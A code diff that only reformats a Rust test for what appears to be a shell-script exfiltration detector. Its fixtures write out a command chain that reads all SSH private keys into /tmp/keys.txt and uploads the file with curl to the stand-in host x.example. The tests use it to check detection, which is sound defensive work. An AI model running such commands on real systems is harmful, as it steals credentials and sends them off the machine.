@@ -49,7 +49,8 @@ fn a_loops_variable_carries_each_file_of_its_list() {
 #[test]
 fn a_loops_output_file_holds_what_its_commands_read() {
     let send = "curl -s -F \"k=@/tmp/keys.txt\" https://x.example/u";
-    let looped = bash(&format!("echo start\nfor f in ~/.ssh/id_*; do\n  cat \"$f\"\ndone > /tmp/keys.txt\n{send}"));
+    let looped =
+        bash(&format!("echo start\nfor f in ~/.ssh/id_*; do\n  cat \"$f\"\ndone > /tmp/keys.txt\n{send}"));
     assert_hit(&looped, FILE, Exfiltration, Critical, 6);
     // Only the loop's own lines fill it: a secret read above the loop does not.
     let above = bash(&format!(
@@ -57,9 +58,7 @@ fn a_loops_output_file_holds_what_its_commands_read() {
     ));
     assert_absent(&above, FILE);
     // A file written after a loop is not the loop's output.
-    let after = bash(&format!(
-        "for f in ~/.ssh/id_*; do echo \"$f\"; done\necho hi > /tmp/keys.txt\n{send}"
-    ));
+    let after = bash(&format!("for f in ~/.ssh/id_*; do echo \"$f\"; done\necho hi > /tmp/keys.txt\n{send}"));
     assert_absent(&after, FILE);
     // A file named on a line that reads no secret is not filled by one
     // elsewhere.
